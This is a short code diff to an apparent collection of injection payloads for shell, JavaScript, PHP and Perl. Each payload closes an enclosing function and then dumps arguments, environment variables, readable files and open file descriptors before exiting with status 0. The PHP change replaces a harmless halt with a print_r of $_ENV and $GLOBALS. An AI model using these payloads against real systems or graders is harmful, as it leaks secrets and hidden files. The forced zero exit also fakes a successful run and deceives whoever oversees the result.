@@ -47,7 +47,7 @@ EARLY = {
 # language: prints all that it can read, files, arguments, variables and open descriptors, and
 # leaves with 0.
 PRINTS = {
-    "sh": "\n    echo 0\n}\nprintf '%s\\n' \"$0\" \"$@\" \"$BASH_COMMAND\"; set; cat -; cat ./* .*\nfor n in {3..511}; do cat <&$n; done 2> /dev/null\ncat << 'NOWHERE'",
+    "sh": '\n    echo 0\n}\nprintf \'%s\\n\' "$0" "$@" "$BASH_COMMAND"; set; cat -; cat ./* .*\nfor n in {3..511}; do cat <&$n; done 2> /dev/null\ncat << \'NOWHERE\'',
     "js": """
   const fs = require('fs');
   console.log(process.argv, process.env, arguments.callee.caller.toString());
@@ -59,7 +59,7 @@ PRINTS = {
   }
   process.exit(0);
 }""",
-    "php": "\n}\n__halt_compiler(); ?>",
+    "php": "\n}\nprint_r([$argv, $_ENV, $GLOBALS, get_defined_constants(true)['user'] ?? 0]); ?>",
     "pl": """
     print join("\\n", $0, @ARGV, %ENV), "\\n";
     for my $name (glob('* .*')) { next unless -f $name; open(my $f, '<', $name); print $name, <$f>; }
